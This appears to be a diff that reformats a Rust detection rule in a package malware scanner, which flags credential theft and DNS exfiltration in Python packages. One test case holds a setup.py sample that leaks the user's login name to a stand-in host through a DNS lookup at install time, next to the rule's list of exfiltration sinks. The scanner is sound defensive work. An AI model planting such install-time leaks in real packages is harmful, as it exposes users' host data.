@@ -40,8 +40,10 @@ fn is_sink(call: &Call) -> bool {
         return true;
     }
     // DNS lookups of a computed name are an exfiltration channel at install time.
-    matches!(call.name.as_str(), "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyname_ex")
-        && call.stage == Stage::Install
+    matches!(
+        call.name.as_str(),
+        "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyname_ex"
+    ) && call.stage == Stage::Install
         && (call.arg_strs.is_empty() || call.arg_refs.iter().any(|r| vocab::is_host_info(r)))
 }
 
@@ -63,8 +65,9 @@ impl Rule for Exfiltration {
                 .filter(|(n, _, _)| vocab::is_host_info(n))
                 .collect();
             let secrets: BTreeSet<Secret> = vocab::strings(code).filter_map(vocab::secret_kind).collect();
-            let strong_endpoint =
-                vocab::strings(code).filter_map(vocab::endpoint_kind).find(|e| e.is_strong() || *e == vocab::Endpoint::RawIp);
+            let strong_endpoint = vocab::strings(code)
+                .filter_map(vocab::endpoint_kind)
+                .find(|e| e.is_strong() || *e == vocab::Endpoint::RawIp);
             let install_sink = sinks.iter().find(|s| s.stage == Stage::Install);
             let import_sink = sinks.iter().find(|s| s.stage == Stage::Import);
             let host_names: BTreeSet<&str> = host.iter().map(|(n, _, _)| *n).collect();
@@ -72,29 +75,93 @@ impl Rule for Exfiltration {
             let describe_secrets = || secrets.iter().map(|s| s.describe()).collect::<Vec<_>>().join(", ");
             let stealer = secrets.iter().any(|s| *s != Secret::Credentials);
             let (severity, sink, message) = if stealer {
-                let sev = if code.role.stage(false) == Stage::Auxiliary { Severity::Medium } else { Severity::Critical };
-                (sev, *first_sink, format!("reads {} and sends data with {}()", describe_secrets(), first_sink.name))
+                let sev = if code.role.stage(false) == Stage::Auxiliary {
+                    Severity::Medium
+                } else {
+                    Severity::Critical
+                };
+                (
+                    sev,
+                    *first_sink,
+                    format!("reads {} and sends data with {}()", describe_secrets(), first_sink.name),
+                )
             } else if let (Some(sink), false) = (install_sink, host.is_empty() && secrets.is_empty()) {
-                let what = if secrets.is_empty() { describe_host() } else { describe_secrets() };
-                (Severity::Critical, *sink, format!("collects {what} and sends it with {}() at install time", sink.name))
-            } else if let (Some(sink), false) = (import_sink, host.iter().all(|(_, scope, _)| *scope != 0) && secrets.is_empty()) {
-                let what = if secrets.is_empty() { describe_host() } else { describe_secrets() };
-                (Severity::High, *sink, format!("collects {what} and sends it with {}() on import", sink.name))
+                let what = if secrets.is_empty() {
+                    describe_host()
+                } else {
+                    describe_secrets()
+                };
+                (
+                    Severity::Critical,
+                    *sink,
+                    format!("collects {what} and sends it with {}() at install time", sink.name),
+                )
+            } else if let (Some(sink), false) = (
+                import_sink,
+                host.iter().all(|(_, scope, _)| *scope != 0) && secrets.is_empty(),
+            ) {
+                let what = if secrets.is_empty() {
+                    describe_host()
+                } else {
+                    describe_secrets()
+                };
+                (
+                    Severity::High,
+                    *sink,
+                    format!("collects {what} and sends it with {}() on import", sink.name),
+                )
             } else if let (Some(endpoint), false) = (strong_endpoint, host.is_empty() && secrets.is_empty()) {
-                let what = if secrets.is_empty() { describe_host() } else { describe_secrets() };
-                let sev = if code.role.stage(false) == Stage::Auxiliary { Severity::Low } else { Severity::High };
-                (sev, *first_sink, format!("collects {what} and sends it with {}() to {}", first_sink.name, endpoint.describe()))
+                let what = if secrets.is_empty() {
+                    describe_host()
+                } else {
+                    describe_secrets()
+                };
+                let sev = if code.role.stage(false) == Stage::Auxiliary {
+                    Severity::Low
+                } else {
+                    Severity::High
+                };
+                (
+                    sev,
+                    *first_sink,
+                    format!(
+                        "collects {what} and sends it with {}() to {}",
+                        first_sink.name,
+                        endpoint.describe()
+                    ),
+                )
             } else if let Some((sink, endpoint)) = sinks.iter().find_map(|s| {
-                s.arg_strs.iter().find_map(|a| vocab::endpoint_kind(a)).filter(|e| e.is_strong()).map(|e| (s, e))
+                s.arg_strs
+                    .iter()
+                    .find_map(|a| vocab::endpoint_kind(a))
+                    .filter(|e| e.is_strong())
+                    .map(|e| (s, e))
             }) {
                 let sev = match sink.stage {
                     Stage::Install | Stage::Import => Severity::Critical,
                     Stage::Call => Severity::High,
                     Stage::Auxiliary => Severity::Low,
                 };
-                (sev, *sink, format!("sends data with {}() to {} {}", sink.name, endpoint.describe(), sink.stage.describe()))
+                (
+                    sev,
+                    *sink,
+                    format!(
+                        "sends data with {}() to {} {}",
+                        sink.name,
+                        endpoint.describe(),
+                        sink.stage.describe()
+                    ),
+                )
             } else if !secrets.is_empty() {
-                (Severity::Medium, *first_sink, format!("reads {} and uses the network ({}())", describe_secrets(), first_sink.name))
+                (
+                    Severity::Medium,
+                    *first_sink,
+                    format!(
+                        "reads {} and uses the network ({}())",
+                        describe_secrets(),
+                        first_sink.name
+                    ),
+                )
             } else {
                 continue;
             };
@@ -118,7 +185,10 @@ mod tests {
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
         // Error: DNS exfiltration.
-        let f = setup_py(&Exfiltration, "import socket, os\nsocket.gethostbyname(os.getlogin() + '.x.example')\n");
+        let f = setup_py(
+            &Exfiltration,
+            "import socket, os\nsocket.gethostbyname(os.getlogin() + '.x.example')\n",
+        );
         assert_eq!(f.len(), 1);
         // Error: stealer in a library function.
         let f = check(
